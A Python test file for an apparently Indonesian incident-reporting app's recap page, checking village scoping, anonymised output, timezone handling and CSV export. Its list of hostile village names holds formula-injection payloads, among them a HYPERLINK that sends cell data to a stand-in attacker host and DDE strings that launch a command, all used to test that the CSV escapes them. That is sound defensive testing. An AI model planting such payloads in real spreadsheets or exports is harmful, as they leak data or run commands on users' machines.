"""The TIMPORA recap: counts for the period, the officer's villages only, no identities."""

import csv
import io
from datetime import UTC
from datetime import datetime

from domain import EventKind
from domain import Status
from domain import spreadsheet
from extensions import db
from models import Event
from models import Village
from tests.factories import make_report

JAN = datetime(2026, 1, 15, 3, tzinfo=UTC)


def seed_reports(app):
    with app.app_context():
        make_report("Tanjung Sari", created_at=JAN, urgency="urgent",
                    reporter_name="Pak Rahmat", description="Seen at the jetty, two men.")
        forwarded = make_report("Pemping", created_at=JAN, status=Status.FORWARDED)
        db.session.add(Event(report=forwarded, kind=EventKind.STATUS, from_status=Status.IN_REVIEW,
                             to_status=Status.FORWARDED))
        make_report("Kasu", created_at=JAN)  # not one of petugas's villages
        make_report("Tanjung Sari", created_at=datetime(2026, 3, 1, tzinfo=UTC))  # outside
        db.session.commit()
        return forwarded.code


def test_recap_counts_the_period_for_the_officers_villages(app, auth, client):
    code = seed_reports(app)
    auth.sign_in_as("petugas")
    page = client.get("/recap/?date_from=2026-01-01&date_to=2026-01-31").data.decode()
    assert "Tanjung Sari" in page and "Pemping" in page
    assert "Kasu" not in page.split("<main")[1].split("</main>")[0]
    assert code in page  # forwarded list
    assert "Person 1" not in page and "K0000000" not in page and "Pak Rahmat" not in page
    assert "Singapura" in page  # nationality counts, named in Indonesian


def test_admin_sees_every_village(app, auth, client):
    seed_reports(app)
    auth.sign_in_as("admin")
    page = client.get("/recap/?date_from=2026-01-01&date_to=2026-01-31").data.decode()
    assert "Kasu" in page


def test_recap_csv(app, auth, client):
    code = seed_reports(app)
    auth.sign_in_as("admin")
    response = client.get("/recap/recap.csv?date_from=2026-01-01&date_to=2026-01-31")
    assert response.mimetype == "text/csv"
    body = response.data.decode()
    assert code in body and "Pemping" in body and "Person 1" not in body


def test_bad_dates_fall_back_with_a_message(auth, client):
    auth.sign_in_as("petugas")
    assert client.get("/recap/?date_from=yesterday&date_to=2026-13-45").status_code == 200
    page = client.get("/recap/?date_from=2026-02-01&date_to=2026-01-01").data.decode()
    assert "sebelum tanggal mulai" in page


def test_days_are_counted_in_jakarta_time(app, auth, client):
    with app.app_context():
        make_report("Tanjung Sari", created_at=datetime(2026, 1, 31, 18, tzinfo=UTC))  # 1 Feb WIB
    auth.sign_in_as("admin")
    january = client.get("/recap/?date_from=2026-01-01&date_to=2026-01-31").data.decode()
    assert "Tidak ada laporan" in january


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    'Desa "Baru", =1',
]


def read_back(cell):
    """What a spreadsheet shows of a cell: the text after the neutralising quote."""
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(spreadsheet.FORMULA_STARTS) else cell


def test_recap_csv_neutralises_formulas_and_round_trips_hostile_names(app, auth, client):
    """Villages named like formulas (written straight to the database: the admin form refuses tabs
    and line breaks) come back from the CSV as text a spreadsheet will not run, and exactly."""
    with app.app_context():
        for index, name in enumerate(HOSTILE_NAMES):
            db.session.add(Village(name=name, kecamatan="x", kabupaten="x", province="x"))
            db.session.flush()
            report = make_report(name, created_at=JAN, status=Status.FORWARDED)
            report.code = f"ZZZZ-{index}AAA"
        db.session.commit()
    auth.sign_in_as("admin")
    response = client.get("/recap/recap.csv?date_from=2026-01-01&date_to=2026-01-31")
    rows = list(csv.reader(io.StringIO(response.data.decode(), newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(spreadsheet.FORMULA_STARTS)]
    shown = [read_back(cell) for cell in cells]
    for name in HOSTILE_NAMES:  # once in the villages' table, once in the forwarded reports
        assert shown.count(name) == 2, name
    assert response.data.decode().startswith('"')  # every cell quoted


def test_safe_cell_leaves_ordinary_values_alone():
    assert spreadsheet.safe_cell("Tanjung Sari") == "Tanjung Sari"
    assert spreadsheet.safe_cell(-5) == -5 and spreadsheet.safe_cell(12) == 12
    assert spreadsheet.safe_cell("-5") == "'-5"
    assert [spreadsheet.safe_cell(start + "x") for start in "=+-@\t\r"] == [
        "'" + start + "x" for start in "=+-@\t\r"]
